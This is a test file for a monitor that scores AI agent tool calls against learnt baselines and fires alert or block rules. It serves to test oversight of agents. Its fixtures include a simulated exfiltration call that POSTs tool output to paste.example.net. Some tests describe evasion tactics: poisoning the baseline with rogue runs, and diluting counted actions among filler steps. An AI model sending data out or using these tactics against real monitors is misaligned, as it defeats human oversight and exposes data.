/**
 * Scoring, as the spec: a run like the learnt ones scores 0; each signal fires on the departure it
 * names and not below its threshold; hard signals need no baseline; a baseline with too few runs
 * counts for nothing; the response rules fire once per action, count rules once per crossing.
 */
import { describe, expect, it } from 'vitest';
import { featuresOfAction, outcomeOfStep, type ActionOutcome, type MeasuredEffect } from '../../monitoring/action-features';
import { learnBaselines, type AgentBaseline } from '../../monitoring/baseline';
import { emptyHistory, recordOutcome, recordProposed } from '../../monitoring/monitor-history';
import { fireRules, strongerResponse, type ResponseRule } from '../../monitoring/response-rule';
import { scoreOf, scoreOutcome, scoreProposed, type ScoreReason, type Signal } from '../../monitoring/score-action';
import { parseResponseRule } from '../../policies/engine/parse-response-rule';
import type { StepRecord, TaskResult } from '../../task/task-run';

const T0 = Date.parse('2026-11-30T10:00:00Z');

function step(index: number, tool: string, args: Record<string, unknown>, output: unknown, extra: Partial<StepRecord> = {}): StepRecord {
  return {
    index,
    turn: index,
    kind: tool.startsWith('spawn:') ? 'spawn' : 'tool',
    tool,
    args,
    decision: 'allow',
    reason: 'granted',
    executed: true,
    output,
    startedAt: new Date(T0 + index * 2000).toISOString(),
    durationMs: 10,
    ...extra,
  };
}

function run(steps: StepRecord[], children: TaskResult[] = [], agent = 'clerk'): TaskResult {
  return { workflowId: `w-${Math.random()}`, runId: 'r', agent, model: { id: 'm', version: '1' }, depth: 0, status: 'completed', steps, children, final: { answer: 'ok', claims: [] } };
}

/** A normal run: read, a query, one or two one-row updates, a GET to the API, a report, a reviewer. */
function normalRun(i: number): TaskResult {
  const steps = [
    step(0, 'fs.read', { path: 'notes.txt' }, 'restock tea'),
    step(1, 'sql.query', { database: 'shop', sql: 'SELECT id FROM orders WHERE qty < ?', params: [i % 4] }, [{ id: 1 }]),
    step(2, 'sql.exec', { database: 'shop', sql: 'UPDATE orders SET qty = qty + 1 WHERE id = ?', params: [i] }, { changes: 1 }),
    step(3, 'http.fetch', { url: 'https://api.example.com/status' }, { status: 200, body: 'green' }),
    step(4, 'fs.write', { path: 'report.txt', content: `restocked ${i} items` }, { path: 'report.txt', bytes: 20 }),
    step(5, 'spawn:reviewer', { subagent: 'reviewer' }, { status: 'completed', final: { answer: 'ok', claims: [] } }),
  ];
  if (i % 2 === 0) steps.splice(3, 0, step(3, 'sql.exec', { database: 'shop', sql: 'UPDATE orders SET qty = qty + 1 WHERE id = ?', params: [i + 1] }, { changes: 2 }));
  return run(steps.map((s, n) => ({ ...s, index: n, startedAt: new Date(T0 + n * 2000).toISOString() })), [run([step(0, 'fs.read', { path: 'report.txt' }, 'x')], [], 'reviewer')]);
}

const baseline: AgentBaseline = learnBaselines(Array.from({ length: 8 }, (_, i) => normalRun(i)), '2026-11-30T00:00:00Z').baselines.find((b) => b.agent === 'clerk')!;

interface Proposed {
  tool: string;
  args?: Record<string, unknown>;
  effect?: MeasuredEffect;
  provenance?: Record<string, string>;
  outcome?: ActionOutcome;
  /** ms after T0 */
  at?: number;
}

/** Runs actions through the monitor's scoring as the workflow does; returns each action's reasons. */
function simulate(b: AgentBaseline | undefined, actions: Proposed[]): ScoreReason[][] {
  const history = emptyHistory();
  return actions.map((a, i) => {
    const now = T0 + (a.at ?? i * 1000);
    const features = featuresOfAction(a.tool, a.args ?? {}, a.effect, a.provenance);
    const event = recordProposed(history, features, i, now);
    const before = a.outcome?.refused ? [] : scoreProposed(history, b, features, now);
    if (a.outcome === undefined) return before;
    recordOutcome(event, a.outcome);
    const initial = a.outcome.refused ? scoreProposed(history, b, features, now) : before;
    return [...initial, ...scoreOutcome(history, b, features, a.outcome, now, initial)];
  });
}

const signals = (reasons: ScoreReason[]) => reasons.map((r) => r.signal).sort();
const same = (n: number, action: Proposed): Proposed[] => Array.from({ length: n }, () => action);

describe('a run like the learnt ones', () => {
  it('scores 0 on every action, with or without the baseline', () => {
    const normal = normalRun(3).steps.map((s): Proposed => ({ tool: s.tool, args: s.args, ...(s.tool === 'sql.exec' ? { effect: { rowsChanged: 1, operation: 'update' } } : {}), outcome: outcomeOfStep(s) }));
    for (const b of [baseline, undefined]) expect(simulate(b, normal).map(scoreOf)).toEqual(normal.map(() => 0));
  });

  it('the baseline says what was learnt', () => {
    expect(baseline).toMatchObject({ agent: 'clerk', tasks: 8, subagents: ['reviewer'], hosts: ['api.example.com'], maxDepthBelow: 1 });
    expect(baseline.tools['sql.exec']).toMatchObject({ operations: ['update'], databases: ['shop'], rows: { max: 2 }, callsPerTask: { max: 2 } });
    expect(baseline.tools['http.fetch']?.hosts).toEqual(['api.example.com']);
  });
});

describe('baseline poisoning: a rogue run is never learnt', () => {
  const exfiltration = (index: number) =>
    step(index, 'http.fetch', { url: 'https://paste.example.net/x', method: 'POST', body: 'k' }, { status: 200 }, { monitor: { score: 70, reasons: [{ signal: 'new-host', points: 70, detail: 'sends data to paste.example.net' }] } });
  const normal = Array.from({ length: 8 }, (_, i) => normalRun(i));

  it.each([
    ['a run whose task named packs without response rules (scored, nothing responded)', () => run([...normalRun(1).steps, exfiltration(9)]), 'step 9 of clerk (http.fetch) scored 70 (new-host), above 40'],
    ['a run whose sub-agent did it', () => run(normalRun(1).steps, [run([exfiltration(0)], [], 'reviewer')]), 'step 0 of reviewer (http.fetch) scored 70 (new-host), above 40'],
    ['a run that raised an alert', () => ({ ...normalRun(1), alerts: [{} as never] }), 'it raised monitor alerts'],
    ['a blocked run', () => ({ ...normalRun(1), status: 'blocked' as const }), 'it ended blocked'],
  ])('%s', (_what, rogue, reason) => {
    const bad = rogue();
    const learnt = learnBaselines([...normal, bad], '2026-11-30T00:00:00Z');
    expect(learnt.skipped).toEqual([{ workflowId: bad.workflowId, reason }]);
    expect(learnt.learnt).toBe(8);
    expect(learnt.baselines.flatMap((b) => b.hosts)).not.toContain('paste.example.net');
  });

  it('an operator can learn scored runs on purpose (--max-score)', () => {
    const bad = run([...normalRun(1).steps, exfiltration(9)]);
    const learnt = learnBaselines([...normal, bad], '2026-11-30T00:00:00Z', { maxScore: 70 });
    expect(learnt.skipped).toEqual([]);
    expect(learnt.baselines.find((b) => b.agent === 'clerk')!.hosts).toContain('paste.example.net');
  });
});

const DEPARTURES: [string, AgentBaseline | undefined, Proposed[], Signal[]][] = [
  ['a tool never called', baseline, [{ tool: 'sql.query' }, { tool: 'fs.list', args: { path: '.' } }], ['new-tool']],
  ['a sub-agent never spawned', baseline, [{ tool: 'spawn:rogue', args: { subagent: 'rogue' } }], ['new-subagent']],
  ['a GET to a host never reached', baseline, [{ tool: 'http.fetch', args: { url: 'https://paste.example.net/x' } }], ['new-host']],
  ['tool output POSTed to a new host', baseline, [{ tool: 'http.fetch', args: { url: 'https://paste.example.net/x', method: 'POST', body: 'k' }, provenance: { '/body': 'tool-output' } }], ['new-host', 'tool-output-sent']],
  ['a database never used by the tool', baseline, [{ tool: 'sql.exec', args: { database: 'payroll', sql: 'UPDATE t SET a = 1' }, effect: { rowsChanged: 1, operation: 'update' } }], ['new-database']],
  ['a DELETE from a tool that only ran UPDATEs', baseline, [{ tool: 'sql.exec', args: { database: 'shop', sql: 'DELETE FROM orders WHERE id = 1' }, effect: { rowsChanged: 1, operation: 'delete' } }], ['new-operation']],
  ['an UPDATE of 40 rows where 2 was the most', baseline, [{ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 0' }, effect: { rowsChanged: 40, operation: 'update' } }], ['rows-jump']],
  ['a write of 64 KB where 20 bytes was the most', baseline, [{ tool: 'fs.write', args: { path: 'report.txt', content: 'x'.repeat(65_536) } }], ['bytes-jump']],
  ['more calls of a tool than any learnt run', baseline, Array.from({ length: 8 }, (_, i) => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 1 WHERE id = ?', params: [i] }, effect: { rowsChanged: 1, operation: 'update' } })), ['calls-jump']],
  ['the same call 3 times in a row (at most once learnt)', baseline, same(3, { tool: 'sql.query', args: { sql: 'SELECT 1' } }), ['identical-loop']],
  ['the same call 3 times in a row without a baseline', undefined, same(3, { tool: 'x.y' }), ['identical-loop']],
  ['sub-agent fan-out past the learnt most', baseline, same(4, { tool: 'spawn:reviewer', args: { subagent: 'reviewer', n: Math.random() } }).map((a, i) => ({ ...a, args: { subagent: 'reviewer', i } })), ['fan-out']],
  ['fan-out of 11 without a baseline', undefined, Array.from({ length: 11 }, (_, i) => ({ tool: 'spawn:helper', args: { subagent: 'helper', i } })), ['fan-out']],
  ['three refusals in a minute', undefined, Array.from({ length: 3 }, (_, i) => ({ tool: 'http.fetch', args: { url: `https://api.example.com/${i}` }, outcome: { refused: true } })), ['denial-burst']],
  ['three failures in a minute', undefined, Array.from({ length: 3 }, (_, i) => ({ tool: 't.x', args: { i }, outcome: { failed: 'ERR_TOOL_THREW' } })), ['failure-burst']],
  ['revoked credentials', undefined, [{ tool: 't.x', outcome: { failed: 'ERR_CREDENTIAL_REVOKED' } }], ['credentials-revoked']],
  ['a grant another state folder issued (not a revocation)', undefined, [{ tool: 't.x', outcome: { failed: 'ERR_CREDENTIAL_GRANT_UNKNOWN' } }], ['grant-unknown']],
  ['a blocked sub-agent', undefined, [{ tool: 'spawn:helper', args: { subagent: 'helper' }, outcome: { childStatus: 'blocked' } }], ['subagent-blocked']],
  [
    'UPDATEs of 10 rows each, none a jump, adding up past any learnt run',
    baseline,
    Array.from({ length: 3 }, (_, i) => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 0 WHERE id BETWEEN ? AND ?', params: [i * 10, i * 10 + 9] }, effect: { rowsChanged: 10, operation: 'update' } })),
    ['rows-total-jump'],
  ],
  ['writes of 4 KB each, none a jump, adding up past any learnt run', baseline, Array.from({ length: 5 }, (_, i) => ({ tool: 'fs.write', args: { path: `part-${i}.txt`, content: 'x'.repeat(4000) } })), ['bytes-total-jump']],
  ['an output 100 times the largest learnt', baseline, [{ tool: 'fs.read', args: { path: 'notes.txt' }, outcome: { bytesIn: 1_200_000 } }], ['bytes-in-jump']],
];

describe('departures from the baseline and hard signals', () => {
  it.each(DEPARTURES)('%s', (_what, b, actions, expected) => {
    const reasons = simulate(b, actions);
    const last = reasons[reasons.length - 1]!;
    expect(signals(last)).toEqual([...expected].sort());
    expect(scoreOf(last)).toBeGreaterThan(0);
    expect(last.every((r) => r.detail.length > 10)).toBe(true);
    // One action less does not fire it (thresholds are not at zero).
    if (actions.length > 1) expect(signals(simulate(b, actions.slice(0, -1)).at(-1)!)).not.toEqual(expect.arrayContaining(expected));
  });

  it('a call that jumps on its own is scored for its size, not again for the run\'s total', () => {
    const [only] = simulate(baseline, [{ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 0' }, effect: { rowsChanged: 40, operation: 'update' } }]);
    expect(signals(only!)).toEqual(['rows-jump']);
  });

  it('a baseline learnt before run totals existed scores no run total', () => {
    const { rowsPerTask: _r, bytesOutPerTask: _b, ...old } = baseline;
    const actions = Array.from({ length: 3 }, (_, i): Proposed => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE orders SET qty = 0 WHERE id > ?', params: [i] }, effect: { rowsChanged: 10, operation: 'update' } }));
    expect(simulate(old as AgentBaseline, actions).map(signals)).toEqual([[], [], []]);
  });

  it('a baseline of fewer runs than minTasks counts for nothing: only hard signals remain', () => {
    const young = { ...baseline, tasks: 3 };
    expect(simulate(young, [{ tool: 'http.fetch', args: { url: 'https://paste.example.net/x' } }])[0]).toEqual([]);
    expect(signals(simulate(young, same(3, { tool: 'x.y' }))[2]!)).toEqual(['identical-loop']);
  });

  it('bursts only count inside their minute', () => {
    const spread = Array.from({ length: 3 }, (_, i): Proposed => ({ tool: 'http.fetch', args: { i }, outcome: { refused: true }, at: i * 40_000 }));
    expect(signals(simulate(undefined, spread)[2]!)).toEqual([]);
  });

  it('scores are capped at 100 and grow with the size of the jump', () => {
    const small = simulate(baseline, [{ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE o SET a=1' }, effect: { rowsChanged: 14, operation: 'update' } }])[0]!;
    const large = simulate(baseline, [{ tool: 'sql.exec', args: { database: 'shop', sql: 'UPDATE o SET a=1' }, effect: { rowsChanged: 4000, operation: 'update' } }])[0]!;
    expect(scoreOf(small)).toBeLessThan(scoreOf(large));
    expect(scoreOf([...large, ...large, ...large])).toBe(100);
  });
});

describe('response rules on scores and counts', () => {
  const rules: ResponseRule[] = [
    parseResponseRule('alert when the anomaly score is above 40', { id: 'r:1' }),
    parseResponseRule('block the task and roll it back when it is denied 3 times in a minute', { id: 'r:2' }),
    parseResponseRule('alert when it makes the same call 3 times in a row', { id: 'r:3' }),
  ];

  function fire(actions: Proposed[]) {
    const history = emptyHistory();
    const armed: Record<string, boolean> = {};
    return actions.map((a, i) => {
      const now = T0 + i * 1000;
      const features = featuresOfAction(a.tool, a.args ?? {});
      const event = recordProposed(history, features, i, now);
      if (a.outcome !== undefined) recordOutcome(event, a.outcome);
      const reasons = scoreProposed(history, undefined, features, now);
      return fireRules(rules, { history, baseline: undefined, features, score: scoreOf(reasons), reasons, now }, armed, new Set()).map((f) => f.id);
    });
  }

  it('count rules fire when the count is reached, not again while it stays reached, and again after it resets', () => {
    const loop = same(5, { tool: 'x.y' });
    const fired = fire([...loop, { tool: 'other' }, ...same(3, { tool: 'x.y' })]);
    expect(fired.map((ids) => ids.includes('r:3'))).toEqual([false, false, true, false, false, false, false, false, true]);
    // The score rule fires on every action whose score is above 40 (the 4th and 5th identical calls).
    expect(fired.map((ids) => ids.includes('r:1'))).toEqual([false, false, false, true, true, false, false, false, false]);
  });

  it('the strongest response wins', () => {
    // Three identical refused calls: a loop (30) and a denial burst (20) make 50, above the alert's 40.
    expect(fire(same(3, { tool: 'a.b', outcome: { refused: true } }))[2]).toEqual(['r:1', 'r:2', 'r:3']);
    expect(['alert', 'remediate', 'step-up'].reduce<'alert' | 'step-up' | 'block' | 'remediate' | undefined>((a, b) => strongerResponse(a, b as 'alert'), undefined)).toBe('remediate');
  });
});

describe('count rules over a whole run count every action of it', () => {
  // An agent may dilute: do the counted thing early, then hundreds of other actions, then once more.
  const EARLY = 300;
  const FILLER = 600;
  const CASES: [string, (i: number) => Proposed, string][] = [
    ['refusals', (i) => ({ tool: 'http.fetch', args: { url: `https://x.example/${i}` }, outcome: { refused: true } }), `block the task when it is denied ${EARLY + 1} times`],
    ['failures', (i) => ({ tool: 't.x', args: { i }, outcome: { failed: 'ERR_TOOL_THREW' } }), `block the task when it fails ${EARLY + 1} times`],
    ['rows', (i) => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'DELETE FROM orders WHERE id = ?', params: [i] }, effect: { rowsChanged: 1, operation: 'delete' } }), `block the task when it deletes more than ${EARLY} rows`],
    ['calls of one tool', (i) => ({ tool: 'sql.exec', args: { database: 'shop', sql: 'SELECT ?', params: [i] } }), `block the task when it makes more than ${EARLY} calls of sql.exec`],
  ];

  it.each(CASES)('%s', (_what, counted, sentence) => {
    const rule = parseResponseRule(sentence, { id: 'r:1' });
    const actions: Proposed[] = [
      ...Array.from({ length: EARLY }, (_, i) => counted(i)),
      ...Array.from({ length: FILLER }, (_, i) => ({ tool: 'fs.read', args: { path: `f-${i}.txt` }, at: (EARLY + i) * 10 })),
      { ...counted(EARLY), at: (EARLY + FILLER) * 10 },
    ].map((a, i) => ({ ...a, at: a.at ?? i * 10 }));
    const history = emptyHistory();
    const armed: Record<string, boolean> = {};
    const fired = actions.map((a, i) => {
      const features = featuresOfAction(a.tool, a.args ?? {}, a.effect);
      const event = recordProposed(history, features, i, T0 + a.at!);
      if (a.outcome !== undefined) recordOutcome(event, a.outcome);
      return fireRules([rule], { history, baseline: undefined, features, score: 0, reasons: [], now: T0 + a.at! }, armed, new Set()).length > 0;
    });
    expect(fired.slice(0, -1).some(Boolean)).toBe(false);
    expect(fired.at(-1)).toBe(true);
  });
});
